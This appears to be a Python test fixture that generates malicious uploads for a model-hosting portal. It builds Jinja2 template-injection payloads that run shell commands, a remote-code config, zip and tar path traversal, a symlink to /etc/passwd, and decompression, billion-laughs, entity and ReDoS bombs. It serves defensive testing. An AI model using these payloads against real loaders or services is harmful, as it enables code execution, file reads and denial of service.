"""Files of text that some loader runs, and files that are small until somebody unpacks them."""

import io
import json
import struct
import tarfile
import zipfile
import zlib

from tests.finetuning.zoo.payload import CALL, MARKER, SHELL

# --- templates: a plain jinja2 runs them, the portal renders none --------------------------------
POPEN = f"os.popen({SHELL!r}).read()"
TEMPLATES = {
    "cycler": f"{{{{ cycler.__init__.__globals__.{POPEN} }}}}",
    "joiner": f"{{{{ joiner.__init__.__globals__.{POPEN} }}}}",
    "namespace": f"{{{{ namespace.__init__.__globals__.{POPEN} }}}}",
    "lipsum": f"{{{{ lipsum.__globals__.{POPEN} }}}}",
    "lipsum by filter": f"{{{{ (lipsum|attr('__globals__'))['os'].popen({SHELL!r}).read() }}}}",
    "self": f"{{{{ self.__init__.__globals__.__builtins__.exec({CALL!r}) }}}}",
    "subclasses": (
        "{% for c in ''.__class__.__mro__[1].__subclasses__() %}"
        "{% if c.__name__ == '_wrap_close' %}"
        f"{{{{ c.__init__.__globals__.popen({SHELL!r}).read() }}}}{{% endif %}}{{% endfor %}}"
    ),
    "joined names": (
        "{% set g = '__glo' ~ 'bals__' %}"
        f"{{{{ (cycler.__init__|attr(g))['o' ~ 's'].popen({SHELL!r}).read() }}}}"
    ),
}


def in_tokenizer_config(template: str) -> bytes:
    return json.dumps({"chat_template": template}).encode()


# --- configurations: a loader that trusts remote code imports the module they name ---------------
MODULE = f"""{CALL}
from transformers import PretrainedConfig


class Evil(PretrainedConfig):
    model_type = "evil"
"""
AUTO_MAP = json.dumps({"model_type": "evil", "auto_map": {"AutoConfig": "evil.Evil"}}).encode()


# --- bombs ---------------------------------------------------------------------------------------
def zipped(depth: int = 3, width: int = 10, zeros: int = 4 * 2**20) -> bytes:
    """`width` ** `depth` copies of `zeros` bytes."""
    content, name = bytes(zeros), "zeros"
    for level in range(depth):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(width):
                archive.writestr(f"{name}{number}", content)
        content, name = buffer.getvalue(), f"level{level}.zip"
    return content


def climbing_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(f"../../{MARKER}", "")
    return buffer.getvalue()


def tar(*, link: bool) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        member = tarfile.TarInfo("weights" if link else f"../../{MARKER}")
        if link:
            member.type, member.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(member)
    return buffer.getvalue()


def png(width: int, height: int, rows: bytes) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + check

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def picture_of_zeros() -> bytes:
    return png(16_384, 1365, zlib.compress(ZEROS))


def laughs() -> bytes:
    lines = ['a0: &a0 ["lol"]']
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 10)]
    return ("---\n" + "\n".join(lines) + "\n---\n# A card\n").encode()


def entities() -> bytes:
    lines = ['<!ENTITY a0 "lol">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    return f"<!DOCTYPE svg [{''.join(lines)}]><svg><text>&a9;</text></svg>".encode()


def layers() -> bytes:
    """300 bytes that ask for 128 GB."""
    sizes = {"hidden_size": 1_000_000, "num_hidden_layers": 10_000, "num_attention_heads": 1000}
    return json.dumps({"model_type": "bert", "id2label": {"0": "O"}, **sizes}).encode()


def backtracking() -> bytes:
    pattern = {"type": "Split", "pattern": {"Regex": "(a+)+$"}, "behavior": "Isolated"}
    model = {"type": "WordPiece", "vocab": {"a": 0}, "unk_token": "a"}
    step = pattern | {"invert": False}
    return json.dumps({"version": "1.0", "pre_tokenizer": step, "model": model}).encode()


ZEROS = bytes(64 * 2**20)
